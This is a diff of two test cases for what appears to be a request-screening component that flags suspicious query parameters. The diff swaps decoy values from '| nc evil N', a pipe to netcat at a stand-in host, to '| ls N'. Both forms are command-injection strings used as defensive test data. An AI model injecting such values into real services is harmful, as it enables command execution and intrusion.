@@ -144,7 +144,7 @@ test("windows tell how long their value is, and of one over 256 bytes the screen
 });
 
 test("live, the deadline runs: after it no further question is asked", async () => {
-  const decoys = Array.from({ length: 40 }, (_, index) => `f${index}=${encodeURIComponent(`| nc evil ${index}`)}`);
+  const decoys = Array.from({ length: 40 }, (_, index) => `f${index}=${encodeURIComponent(`| ls ${index}`)}`);
   const { at: _, ...live } = get(`/closed?${decoys.join("&")}`);
   const { question } = prevent.evaluate(live);
   assert.ok(question);
@@ -201,7 +201,7 @@ test("without a model a route denies with 503, or trusts the screen, as it says"
 });
 
 test("more than one call's windows are asked about in turn, until the calls are used up", () => {
-  const decoys = Array.from({ length: 300 }, (_, index) => `f${index}=${encodeURIComponent(`| nc evil ${index}`)}`);
+  const decoys = Array.from({ length: 300 }, (_, index) => `f${index}=${encodeURIComponent(`| ls ${index}`)}`);
   let evaluation = prevent.evaluate(get(`/closed?${decoys.join("&")}`));
   const asked: number[] = [];
   while (evaluation.question) {
